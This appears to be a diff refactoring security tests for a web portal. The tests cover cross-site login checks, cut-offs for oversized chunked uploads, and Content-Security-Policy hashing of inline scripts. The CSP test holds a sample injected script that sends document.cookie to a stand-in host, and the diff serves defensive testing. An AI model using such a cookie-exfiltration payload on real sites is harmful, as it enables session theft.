@@ -112,7 +112,8 @@ def test_a_cross_site_form_cannot_sign_anyone_in(world, db):
                                              headers={"Referer": f"{settings.public_origin}/login?next=/portal"})
     assert by_referer.status_code == 303
     # A program signing in with JSON sends no Origin; a cross-site page cannot send JSON without a preflight.
-    assert TestClient(edge_app()).post("/api/auth/login", json={"email": CUSTOMER, "password": PASSWORD}).status_code == 200
+    by_json = TestClient(edge_app()).post("/api/auth/login", json={"email": CUSTOMER, "password": PASSWORD})
+    assert by_json.status_code == 200
 
 
 EMPTY_FORM = {"content": b"", "headers": {"Content-Type": "application/x-www-form-urlencoded"}}
@@ -297,10 +298,7 @@ class EndlessBody:
         self.head, self.total, self.chunk, self.taken = head, total, chunk, 0
 
     async def receive(self) -> Message:
-        if self.taken == 0:
-            body = self.head
-        else:
-            body = b"x" * min(self.chunk, self.total - self.taken)
+        body = self.head if self.taken == 0 else b"x" * min(self.chunk, self.total - self.taken)
         self.taken += len(body)
         return {"type": "http.request", "body": body, "more_body": self.taken < self.total}
 
@@ -331,7 +329,7 @@ def test_a_chunked_upload_is_cut_off_at_the_limit_and_nothing_is_stored(world, d
 
     monkeypatch.setenv("PORTAL_MAX_UPLOAD_MB", "1")
     ref = world.shipments["ALFA"][2]
-    files_before = {p for p in settings.files_dir.rglob("*")} if settings.files_dir.exists() else set()
+    files_before = set(settings.files_dir.rglob("*")) if settings.files_dir.exists() else set()
     docs_before = db.exec(select(sa.func.count()).select_from(Document)).one()
     head = (b'--B\r\nContent-Disposition: form-data; name="doc_type"\r\n\r\npacking_list\r\n--B\r\n'
             b'Content-Disposition: form-data; name="file"; filename="big.pdf"\r\nContent-Type: application/pdf\r\n\r\n'
@@ -345,7 +343,7 @@ def test_a_chunked_upload_is_cut_off_at_the_limit_and_nothing_is_stored(world, d
     assert body.taken <= limit + body.chunk, f"the app read {body.taken} bytes of a {limit}-byte limit"
     db.expire_all()
     assert db.exec(select(sa.func.count()).select_from(Document)).one() == docs_before
-    assert ({p for p in settings.files_dir.rglob("*")} if settings.files_dir.exists() else set()) == files_before
+    assert (set(settings.files_dir.rglob("*")) if settings.files_dir.exists() else set()) == files_before
 
 
 def test_a_chunked_json_body_is_cut_off_at_the_small_limit(world):
@@ -413,10 +411,12 @@ def test_a_page_may_run_only_the_inline_scripts_of_the_build(world):
 
     from portal_app.edge.headers import SecurityHeaders, inline_script_hashes
 
-    own, injected = b"<script>window.theme = 'light';</script>", b"<script>fetch('//x.invalid/'+document.cookie)</script>"
+    own = b"<script>window.theme = 'light';</script>"
+    injected = b"<script>fetch('//x.invalid/'+document.cookie)</script>"
     built = frozenset(inline_script_hashes(own))
     page = HTMLResponse(b"<html><head>" + own + b"</head><body>" + injected + b"</body></html>")
-    csp = TestClient(SecurityHeaders(page, built_hashes=lambda: built)).get("/portal").headers["content-security-policy"]
+    client = TestClient(SecurityHeaders(page, built_hashes=lambda: built))
+    csp = client.get("/portal").headers["content-security-policy"]
     script_src = csp.split("script-src")[1].split(";")[0]
     assert inline_script_hashes(own)[0] in script_src
     assert inline_script_hashes(injected)[0] not in script_src
